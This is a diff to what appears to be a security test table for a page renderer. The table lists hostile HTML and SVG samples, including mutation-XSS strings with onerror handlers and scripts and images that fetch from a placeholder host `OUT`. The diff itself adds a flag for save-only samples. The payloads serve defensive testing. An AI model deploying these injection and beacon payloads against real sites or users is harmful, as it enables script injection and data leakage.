@@ -28,6 +28,8 @@ class Hostile:
     """Whether somebody presses on what is called `press` in it."""
     aims: str = "out"
     """What it reaches where nothing holds it: out, the library, or a dialog."""
+    file: bool = False
+    """Whether it is no page to Atlas, and only to be saved."""
 
 
 def page(inside: str, head: str = "") -> str:
@@ -86,7 +88,7 @@ ROWS = (
     ),
     Hostile("script behind a mutation", page(f'<noscript><p title="</noscript><img src=x: onerror={CALL.replace("; ", ";")}>"></noscript>')),
     Hostile("math and a mutation", page(f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={CALL.replace("; ", ";")}&gt;"></table></math>'), works=False),
-    Hostile("template", page(f"<template shadowrootmode=open><img src=http://OUT/shadow></template>", ""), works=False),
+    Hostile("template", page("<template shadowrootmode=open><img src=http://OUT/shadow></template>", ""), works=False),
     Hostile("shadow root", page("<div><template shadowrootmode=open><img src=http://OUT/shadow></template></div>")),
     # It asks for things.
     Hostile("fetch", page("<script>fetch('http://OUT/fetch', {mode: 'no-cors'})</script>")),
@@ -182,5 +184,5 @@ ROWS = (
     Hostile("drawing that asks", f"{SVG}<image xlink:href='http://OUT/x.png' width='9' height='9'/></svg>", "image/svg+xml"),
     Hostile("drawing that leads away", f'{SVG}<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=http://OUT/r"/></foreignObject></svg>', "image/svg+xml"),
     Hostile("drawing within a page", page(f"<img src='data:image/svg+xml;base64,{packed(SVG + '<script>fetch(`http://OUT/x`)</script><image href=`http://OUT/x.png`/></svg>')}'>"), works=False),
-    Hostile("parts that replace each other", b"--b\r\nContent-Type: text/html\r\n\r\n" + page(f"<script>{CALL}</script>").encode() + b"\r\n--b--", "multipart/x-mixed-replace; boundary=b", works=False),
+    Hostile("parts that replace each other", b"--b\r\nContent-Type: text/html\r\n\r\n" + page(f"<script>{CALL}</script>").encode() + b"\r\n--b--", "multipart/x-mixed-replace; boundary=b", works=False, file=True),
 )  # fmt: skip
